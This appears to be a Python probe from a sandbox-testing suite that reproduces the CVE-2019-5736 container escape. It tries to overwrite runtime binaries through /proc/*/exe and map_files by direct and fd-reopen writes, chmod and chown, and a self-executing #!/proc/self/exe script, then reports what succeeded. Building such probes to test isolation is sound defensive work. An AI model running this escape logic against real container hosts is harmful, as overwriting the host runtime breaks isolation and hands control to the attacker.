# ruff: noqa: S103, S108 - unsafe on purpose: it runs inside a sandbox
"""Overwrite the program that started us, or started into us: by every name the kernel gives it (CVE-2019-5736)."""

import os
import stat

from ringfence.attack.probes.prelude import attempt, in_child, say

ROUNDS = 40
MODES = {"write": os.O_WRONLY, "read and write": os.O_RDWR, "truncate": os.O_WRONLY | os.O_TRUNC}
TOOLS = ("runc", "crun", "runsc")


def names() -> list[str]:
    """What every process runs, ours and process 1's first, and what it has mapped."""
    pids = ["self", "1", *(name for name in os.listdir("/proc") if name.isdigit())]
    found = [f"/proc/{pid}/exe" for pid in pids]
    for pid in pids:
        try:
            found += [f"/proc/{pid}/map_files/{name}" for name in os.listdir(f"/proc/{pid}/map_files")[:20]]
        except OSError:
            continue
    return found


def reopened(path: str, mode: int) -> str:
    """The classic: hold it for reading while it runs, and open what is held for writing."""
    held = os.open(path, os.O_RDONLY)
    try:
        os.close(os.open(f"/proc/self/fd/{held}", mode))
    finally:
        os.close(held)
    return "ok"


def ours(path: str) -> bool:
    """Whether it is a program this sandbox may well write: none is, outside the scratch."""
    try:
        return os.readlink(path).startswith(("/home/user/", "/tmp/", "/run/", "/var/tmp/", "/dev/shm/"))
    except OSError:
        return False


def tried(path: str) -> dict[str, str]:
    """Every way to write it."""
    direct = {f"{path} {name}": attempt(lambda m=mode: os.close(os.open(path, m))) for name, mode in MODES.items()}
    held = {f"{path} held, {name}": attempt(reopened, path, mode) for name, mode in MODES.items()}
    return direct | held | {f"{path} chmod": attempt(os.chmod, path, 0o777), f"{path} chown": changed_owner(path)}


def changed_owner(path: str) -> str:
    """Give it to ourselves, where it is not ours already."""
    if attempt(os.stat, path) == "ok" and os.stat(path).st_uid == os.getuid():
        return "ours"
    return attempt(os.chown, path, os.getuid(), os.getgid())


def as_interpreter() -> str:
    """A script whose interpreter is /proc/self/exe: a tool that runs it runs itself once more, in here."""
    path = "/tmp/again"
    with open(path, "w") as file:
        file.write("#!/proc/self/exe\n")
    os.chmod(path, 0o755)
    read, write = os.pipe()
    if os.fork() == 0:
        os.dup2(write, 1)
        os.dup2(write, 2)
        attempt(os.execv, path, [path, "--version"])
        os._exit(0)
    os.close(write)
    with open(read, "rb") as pipe:
        return pipe.read(4096).decode("utf-8", "replace")


def tools_seen() -> list[str]:
    """Processes whose program is the tool's: it should have left before we came."""
    found = []
    for path in names():
        try:
            target = os.readlink(path)
        except OSError:
            continue
        if any(word in target for word in TOOLS):
            found.append(f"{path} is {target}")
    return found


outcomes: dict[str, str] = {}
for _ in range(ROUNDS):
    outcomes |= {name: how for path in names() if not ours(path) for name, how in tried(path).items() if how == "ok"}
    if outcomes:
        break
last = {name: how for path in names() for name, how in tried(path).items()}
setuid = [path for path in names() if attempt(os.stat, path) == "ok" and os.stat(path).st_mode & stat.S_ISUID]
again = in_child(as_interpreter)
say(
    found=[f"{name}: {how}" for name, how in outcomes.items()]
    + tools_seen()
    + [f"{path} is setuid" for path in setuid]
    + ([f"a tool ran: {again[:200]}"] if any(word in again for word in ("runc", "crun", "runsc", "spec:")) else []),
    tried=len(last) + ROUNDS,
    outcomes=last,
    again=again,
)
